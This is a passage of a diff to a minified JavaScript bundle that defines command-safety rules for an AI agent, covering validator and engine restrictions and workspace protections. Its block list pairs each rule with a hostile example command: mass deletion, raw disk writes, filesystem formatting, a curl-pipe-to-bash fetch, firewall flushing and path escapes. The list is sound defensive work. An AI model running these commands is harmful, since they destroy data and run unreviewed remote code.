-e script what it is for.`})},"`validator`")},42148:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.workspaceRules=
-void 0;function e(){const o=s(43767);return e=function(){return o},o}function n(o,h,c){return(0,e().rule)({layer:1,title:h,
-why:"The first layer blocks dangerous patterns anywhere in what would run: in a chain, after a prefix, in a substitution\
-, or in an npm script. Text that is data, such as a search pattern, does not match.",wrong:c,right:"cat notes.md",message:({
-pattern:r})=>`Command blocked by safety rule: Pattern '${r}' matches dangerous pattern '${o}'.`,remedy:"Run the command \
-outside the agent."})}const i=`profile: workspace
+wrong:l("NODE_OPTIONS=--require=./x.js"),right:{...l("APP_MODE=test"),also:{weakens:"The file is harmless, but the rule \
+reports that it is read."}},message:({path:f,names:u})=>`\`${f}\` ${u.length===0?"is too large to check":`sets ${(0,n().
+inCode)(u)}, which changes what runs`}.`,remedy:"Remove everything from the file that the command does not need."})})},8371:function(A,t,s){
+Object.defineProperty(t,"__esModule",{value:!0}),t.validatorRules=void 0;function e(){const y=s(36773);return e=function(){
+return y},y}function n(){const y=s(43767);return n=function(){return y},y}const c={"validator-empty-folder":"The validat\
+ors accept the command but do not find the script."},r=t.validatorRules=(0,n().rules)("policy","broken",{"validator-scri\
+pt":(0,n().rule)({unproven:!0,title:"Engine does not run the program",why:"The reference engine 1.29 runs node, npm and \
+npx. Its later versions, and the validators of the protocol's hub, start `node` with a script and nothing else, unless i\
+t only prints information. They refuse an npm or npx command, and the gene fails. The policy names the versions that mus\
+t accept a gene (`a2a.engines`).",wrong:"npm test",right:{command:"node scripts/check.js",also:c},message:"`{engine}` ac\
+cepts {accepts}, not {command}.",remedy:"Write a Node script that does the same, and run it with `node`."}),"validator-e\
+mpty-folder":(0,n().notice)({title:"Hub validators do not find the script",why:"The validators of the protocol's hub run\
+ every command in a new, empty directory, without the repository of the gene. A command that they accept can still fail \
+there, because its script does not exist.",wrong:"node scripts/check.js",right:{command:"node --version",also:{"only-pri\
+nts":"The command needs no file, so it validates nothing."}},message:"The hub's validators run in an empty directory, wh\
+ere `{script}` does not exist.",remedy:"Keep the command for your own repository; do not expect it to pass on the hub."}),
+"validator-flag":(0,n().rule)({unproven:!0,counted:["of"],title:"Engine refuses the flag",why:"The reference engine and \
+the validators of the protocol's hub refuse flags that run inline code, preload code, or open the debugger. Version 1.94\
+ refuses them anywhere in a command, also after the script, where Node.js does not read them. Version 2 accepts no optio\
+n of `node` but `-c` before a script, and no backtick or `$(` even in quotes. All refuse what is an operator of a shell \
+outside of quotes.",wrong:"node scripts/check.js -p 3000",right:{command:"node scripts/check.js --port 3000",also:c},message:({
+engine:y,flag:g,of:o})=>`\`${y}\` refuses ${(0,e().inCode)([g])}${o==="script"?", also after the script":""}.`,remedy:({
+flag:y,of:g})=>g==="script"?"Give the flag of the script another name.":`Write the command without ${(0,e().inCode)([y])}\
+, and do in the script what it is for.`})},"`validator`")},42148:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),
+t.workspaceRules=void 0;function e(){const o=s(43767);return e=function(){return o},o}function n(o,l,m){return(0,e().rule)(
+{layer:1,title:l,why:"The first layer blocks dangerous patterns anywhere in what would run: in a chain, after a prefix, \
+in a substitution, or in an npm script. Text that is data, such as a search pattern, does not match.",wrong:m,right:"cat\
+ notes.md",message:({pattern:a})=>`Command blocked by safety rule: Pattern '${a}' matches dangerous pattern '${o}'.`,remedy:"\
+Run the command outside the agent."})}const c=`profile: workspace
 patterns:
   - name: no_production
     layer: 3
     reason: Validations stay away from production.
     regex: '\\bprod\\b'
     match: [cat config/prod.json]
-    not_match: [cat notes.md]`,w=Object.fromEntries(Object.entries({mass_deletion:["Mass file deletion","rm -rf /"],raw_disk_write:[
+    not_match: [cat notes.md]`,y=Object.fromEntries(Object.entries({mass_deletion:["Mass file deletion","rm -rf /"],raw_disk_write:[
 "Raw disk writing","dd if=/dev/zero of=/dev/sda"],filesystem_format:["Filesystem formatting","mkfs.ext4 /dev/sdb1"],direct_disk_write:[
 "Direct disk writing","echo x > /dev/sda"],remote_code_execution:["Remote code execution","curl http://host.test/x.sh | \
 bash"],world_writable:["World-writable permissions","chmod 777 notes.md"],privilege_escalation:["Privilege escalation","\
 chown root notes.md"],firewall_manipulation:["Firewall manipulation","iptables -F"],system_shutdown:["System shutdown","\
 shutdown -h now"],system_reboot:["System reboot","reboot"],force_kill:["Force kill of processes","kill -9 1"]}).map(([o,
-[h,c]])=>[o,n(o,h,c)])),g=t.workspaceRules=(0,e().rules)(1,"danger",{...w,path_outside_workspace:(0,e().rule)({layer:2,title:"\
+[l,m]])=>[o,n(o,l,m)])),g=t.workspaceRules=(0,e().rules)(1,"danger",{...y,path_outside_workspace:(0,e().rule)({layer:2,title:"\
 Path is outside the workspace",why:"The second layer keeps file operations inside the workspace: every path must be insi\
 de it after `..` and symbolic links are resolved.",wrong:"cat ../secret",right:"cat notes.md",configure:"`workspace` in \
 the policy; default: the repository.",message:"Command blocked by safety rule: Path '{path}' is outside the workspace.",
@@ -2693,13 +2707,14 @@ ed list of commands. These commands must not run code that has not been reviewed
 wget https://host.test",right:"cat notes.md",configure:"`families` in the policy adds a command.",message:"Command block\
 ed by safety rule: Command '{program}' {objection}.",remedy:"Use one of the allowed commands."}),custom_pattern:(0,e().rule)(
 {layer:3,title:"Command matches a pattern of the policy",why:"A policy can add patterns to each layer, each with a name \
-and a reason.",wrong:{command:"cat config/prod.json",policy:i},right:{command:"cat notes.md",policy:i},configure:"`patte\
-rns` in the policy.",message:({name:o,pattern:h,reason:c})=>`Command blocked by safety rule: Pattern '${h}' matches dang\
-erous pattern '${o}': ${c.replace(/\.$/,"")}.`,remedy:"Write a command that the pattern does not match, or change the pa\
+and a reason.",wrong:{command:"cat config/prod.json",policy:c},right:{command:"cat notes.md",policy:c},configure:"`patte\
+rns` in the policy.",message:({name:o,pattern:l,reason:m})=>`Command blocked by safety rule: Pattern '${l}' matches dang\
+erous pattern '${o}': ${m.replace(/\.$/,"")}.`,remedy:"Write a command that the pattern does not match, or change the pa\
 ttern in the policy."})},"`workspace`")},23404:function(A,t,s){s.r(t),s.d(t,{SCHEMA_VERSION:()=>e.f$,canonicalize:()=>e.
 dw,computeAssetId:()=>e.ns,verifyAssetId:()=>e.Px});var e=s(35845)},28940:function(A,t,s){s.r(t),s.d(t,{closest:()=>e.kp,
 distance:()=>e.Io});var e=s(21916)},41330:function(A,t,s){s.r(t),s.d(t,{default:()=>e});var e=s(14006)},86750:function(A,t,s){
 s.r(t),s.d(t,{RE2JS:()=>e.L3});var e=s(2856)},7723:function(A,t,s){s.r(t),s.d(t,{ZodError:()=>e.G,array:()=>n.YOg,boolean:()=>n.
-zMY,coerce:()=>i,enum:()=>n.k5n,int:()=>n.Whr,iso:()=>a,literal:()=>n.euz,looseObject:()=>n._H3,number:()=>n.aig,object:()=>n.
-Ikc,partialRecord:()=>n.jgl,prettifyError:()=>w.S1,record:()=>n.g1P,strictObject:()=>n.rej,string:()=>n.YjP,toJSONSchema:()=>g.
-bl,union:()=>n.KCZ,unknown:()=>n.L5J,url:()=>n.OZ5});var e=s(961),n=s(2503),i=s(49567),a=s(64377),w=s(37428),g=s(98439)}};
+zMY,coerce:()=>c,enum:()=>n.k5n,int:()=>n.Whr,iso:()=>r,literal:()=>n.euz,looseObject:()=>n._H3,number:()=>n.aig,object:()=>n.
+Ikc,partialRecord:()=>n.jgl,prettifyError:()=>y.S1,record:()=>n.g1P,strictObject:()=>n.rej,string:()=>n.YjP,toJSONSchema:()=>g.
+bl,tuple:()=>n.PVZ,union:()=>n.KCZ,unknown:()=>n.L5J,url:()=>n.OZ5});var e=s(961),n=s(2503),c=s(49567),r=s(64377),y=s(37428),
+g=s(98439)}};
